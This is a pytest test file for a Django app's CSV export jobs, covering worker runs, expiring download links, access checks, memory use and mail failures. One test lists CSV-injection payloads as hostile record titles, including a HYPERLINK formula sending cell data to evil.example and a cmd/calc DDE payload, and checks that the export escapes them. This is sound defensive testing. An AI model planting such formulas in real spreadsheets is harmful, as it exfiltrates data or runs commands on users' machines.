import csv
import io
import json
import os
import time
import urllib.request
from urllib.parse import parse_qs, urlsplit

import pytest
from django.db import connection

from conftest import run_manage
from records.models import Record


def enqueue(client, **payload):
    return client.post("/api/exports/", json.dumps(payload), content_type="application/json")


def run_worker(services, **env: str):
    """One burst of a real rq worker on the export queue, as the server runs it (another process, same settings)."""
    env = {**os.environ, **env}
    env["DATABASE_URL"] = services.env["DATABASE_URL"].rsplit("/", 1)[0] + "/" + connection.settings_dict["NAME"]
    worker = run_manage("rqworker", "export", "--burst", env=env)
    assert worker.returncode == 0, worker.stdout + worker.stderr
    return worker


@pytest.mark.django_db(transaction=True)  # the worker is another process: it must see committed rows
def test_export_job_runs_in_worker_and_mails_an_expiring_link_on_the_site_url(user_client, services, mailbox, settings):
    Record.objects.create(title="bisque", body="first firing")
    Record.objects.create(title="glaze", body='with "quotes", commas')

    response = enqueue(user_client)
    assert response.status_code == 202
    job_id = response.json()["job_id"]
    status_url = response.json()["status_url"]
    assert status_url == f"/api/exports/{job_id}/"
    assert user_client.get(status_url).json()["status"] == "queued"

    run_worker(services)

    status = user_client.get(status_url).json()
    assert status["status"] == "finished", status
    url = status["result_url"]
    # SITE_URL, not the Host header of the request that asked (the test client's "testserver")
    assert url.startswith(f"{settings.SITE_URL}/exports/")
    (mail,) = mailbox.to("potter@example.com")
    assert url in mail.get_body().get_content()

    # The link is the app's; with media on S3 it hands out a presigned URL that expires with it.
    download = user_client.get(urlsplit(url).path)
    assert download.status_code == 302
    presigned = urlsplit(download["Location"])
    assert f"{presigned.scheme}://{presigned.netloc}" == services.env["AWS_S3_ENDPOINT_URL"]
    query = parse_qs(presigned.query)
    assert "X-Amz-Signature" in query
    assert 0 < int(query["X-Amz-Expires"][0]) <= settings.EXPORT_LINK_MAX_AGE
    with urllib.request.urlopen(download["Location"], timeout=10) as answer:
        rows = list(csv.DictReader(io.StringIO(answer.read().decode())))
    assert [r["title"] for r in rows] == ["bisque", "glaze"]
    assert rows[1]["body"] == 'with "quotes", commas'


@pytest.mark.django_db
def test_export_goes_to_the_users_own_address_a_supplied_one_is_400(user_client, mailbox):
    # The server mailed a CSV of every record to any address it was given: an open relay.
    response = enqueue(user_client, email="victim@example.net")
    assert response.status_code == 400
    assert list(response.json()["errors"]) == ["email"]
    assert "your account's e-mail address" in response.json()["errors"]["email"][0]
    form = user_client.post("/api/exports/", {"email": "victim@example.net"})
    assert form.status_code == 400 and list(form.json()["errors"]) == ["email"]


@pytest.mark.django_db
def test_export_for_a_user_without_an_address_is_400(user_client, user):
    user.email = ""
    user.save()
    response = enqueue(user_client)
    assert response.status_code == 400
    assert "no e-mail address" in response.json()["error"]


@pytest.mark.django_db
def test_export_status_is_only_for_the_user_who_asked(user_client, client, django_user_model):
    job_id = enqueue(user_client).json()["job_id"]
    assert user_client.get(f"/api/exports/{job_id}/").status_code == 200
    other = django_user_model.objects.create_user("glazer", "glazer@example.com")
    client.force_login(other)
    response = client.get(f"/api/exports/{job_id}/")
    assert response.status_code == 404
    assert response.json() == {"error": f"Export job {job_id} not found."}


@pytest.mark.django_db
def test_export_job_is_enqueued_with_timeout_and_retry(user_client, settings):
    import django_rq
    from rq.job import Job

    job_id = enqueue(user_client).json()["job_id"]
    job = Job.fetch(job_id, connection=django_rq.get_connection("export"))
    assert job.origin == "export"
    assert job.timeout == settings.JOB_TIMEOUT
    assert job.retries_left == 3
    job.delete()


@pytest.mark.django_db
def test_unknown_export_job_is_404(user_client):
    response = user_client.get("/api/exports/does-not-exist/")
    assert response.status_code == 404
    assert "not found" in response.json()["error"]


def export_csv(services, result) -> list[dict[str, str]]:
    """The rows of the CSV an in-process export job wrote (media is moto's S3 in these tests)."""
    obj = services.s3().get_object(Bucket=services.env["AWS_STORAGE_BUCKET_NAME"], Key=result["name"])
    return list(csv.DictReader(io.StringIO(obj["Body"].read().decode("utf-8"))))


@pytest.mark.django_db
def test_export_neutralises_spreadsheet_formulas(user, services):
    # OWASP CSV injection: a spreadsheet runs a cell that starts with = + - @ (or tab, CR) as a formula.
    from records.exports import export_records_csv

    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1",
        "\r=1",
    ]
    for title in hostile:
        Record.objects.create(title=title, body="plain text, = in the middle is fine")
    rows = export_csv(services, export_records_csv(user.pk))
    assert [row["title"] for row in rows] == ["'" + title for title in hostile]
    assert {row["body"] for row in rows} == {"plain text, = in the middle is fine"}
    assert rows[0]["id"].isdigit()


@pytest.mark.django_db
def test_export_memory_does_not_grow_with_the_table(user, settings, tmp_path):
    # Built in memory, the CSV's peak was twice its size (the text and its UTF-8 bytes): 4x the rows, 4x the memory.
    import tracemalloc

    from records.exports import export_records_csv

    # Local media: moto's S3 server runs in this process, and its copy of the file would count.
    local = {"BACKEND": "django.core.files.storage.FileSystemStorage"}
    settings.STORAGES = {**settings.STORAGES, "default": local, "exports": local}
    settings.MEDIA_ROOT = str(tmp_path)

    def export_peak(rows: int) -> tuple[int, int]:
        have = Record.objects.count()
        Record.objects.bulk_create((Record(title=f"r{i}", body="x" * 4096) for i in range(have, rows)), batch_size=500)
        tracemalloc.start()
        try:
            result = export_records_csv(user.pk)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        return peak, (tmp_path / result["name"]).stat().st_size

    small_peak, small_size = export_peak(1000)
    large_peak, large_size = export_peak(4000)
    assert large_size > 16_000_000 and large_size > 3.9 * small_size
    assert large_peak < 1.5 * small_peak, f"peak {small_peak} -> {large_peak} bytes for {small_size} -> {large_size}"
    assert large_peak < large_size / 4


def local_exports(settings, tmp_path) -> None:
    local = {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"allow_overwrite": True}}
    settings.STORAGES = {**settings.STORAGES, "exports": local}
    settings.MEDIA_ROOT = str(tmp_path)


@pytest.mark.django_db
def test_local_export_link_serves_the_file_and_does_not_reveal_its_media_path(client, user, settings, tmp_path):
    # nginx serves local media under /media/ without asking the app: a file name readable from the link (a signed
    # payload is readable) would outlive the link's expiry.
    from django.core import signing

    from records.exports import export_records_csv

    local_exports(settings, tmp_path)
    Record.objects.create(title="local", body="x")
    result = export_records_csv(user.pk)
    assert (tmp_path / result["name"]).is_file() and result["name"].startswith("exports/")
    token = urlsplit(result["url"]).path.split("/")[-2]
    payload = json.dumps(signing.loads(token, salt="records.exports.link"))
    secret = result["name"].rsplit("-", 1)[-1].removesuffix(".csv")
    assert len(secret) >= 32 and secret not in result["url"] and secret not in payload
    response = client.get(urlsplit(result["url"]).path)
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="records.csv"'
    assert b"".join(response.streaming_content).decode().splitlines()[1].split(",")[1] == "local"


@pytest.mark.django_db
def test_export_link_expires_and_a_forged_one_is_refused(client, user, settings, tmp_path):
    from records.exports import export_records_csv

    local_exports(settings, tmp_path)
    settings.EXPORT_LINK_MAX_AGE = 1
    path = urlsplit(export_records_csv(user.pk)["url"]).path
    assert client.get(path).status_code == 200
    time.sleep(1.1)
    expired = client.get(path)
    assert expired.status_code == 410
    assert b"expired" in expired.content
    forged = path[:-3] + ("A" if path[-3] != "A" else "B") + path[-2:]
    assert client.get(forged).status_code == 404


@pytest.mark.parametrize(
    ("reply", "status"),
    [
        ("553 5.7.1 Sender address rejected: not owned by this account", "failed"),  # for good: no retries
        ("451 4.7.1 Sender address deferred: try again later", "scheduled"),  # for now: rq retries later
    ],
)
@pytest.mark.django_db(transaction=True)
def test_mail_provider_refusing_the_sender_fails_the_job_with_a_named_logged_error(
    user_client, services, mailbox, reply, status
):
    sender = "unverified@kiln.test"
    mailbox.refuse_senders[sender] = reply
    try:
        job_id = enqueue(user_client).json()["job_id"]
        worker = run_worker(services, DEFAULT_FROM_EMAIL=sender)
    finally:
        mailbox.refuse_senders.clear()
    state = user_client.get(f"/api/exports/{job_id}/").json()
    assert state["status"] == status, state
    if status == "failed":
        assert state["error"].startswith("records.exports.ExportMailError: ")
        assert sender in state["error"] and reply.split()[0] in state["error"]
    logged = [json.loads(line) for line in worker.stdout.splitlines() if "Export mail" in line]
    assert [(entry["level"], entry["permanent"]) for entry in logged] == [("ERROR", status == "failed")], worker.stdout
    assert user_client.get("/readyz").status_code == 200  # the web never sent the mail: nothing of it broke


@pytest.fixture
def postmark_refusing_the_sender(settings):
    """A local HTTP server answering Postmark's send API as Postmark does for a sender it has not verified."""
    import http.server
    import threading

    class Postmark(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            self.rfile.read(int(self.headers["Content-Length"]))
            body = json.dumps({"ErrorCode": 400, "Message": "The 'From' address is not a Sender Signature."}).encode()
            self.send_response(422)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Postmark)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    settings.EMAIL_BACKEND = "anymail.backends.postmark.EmailBackend"
    settings.ANYMAIL = {"POSTMARK_SERVER_TOKEN": "test", "POSTMARK_API_URL": f"http://127.0.0.1:{server.server_port}/"}
    yield
    server.shutdown()
    server.server_close()


@pytest.mark.django_db
def test_esp_refusing_the_sender_is_a_named_logged_error(user, postmark_refusing_the_sender, caplog):
    from records.exports import ExportMailError, export_records_csv

    with pytest.raises(ExportMailError, match="422") as refused:
        export_records_csv(user.pk)
    assert "\n" not in str(refused.value)  # one line: the job status shows the last line of the traceback
    (entry,) = [r for r in caplog.records if r.getMessage().startswith("Export mail")]
    assert entry.levelname == "ERROR" and entry.permanent is True
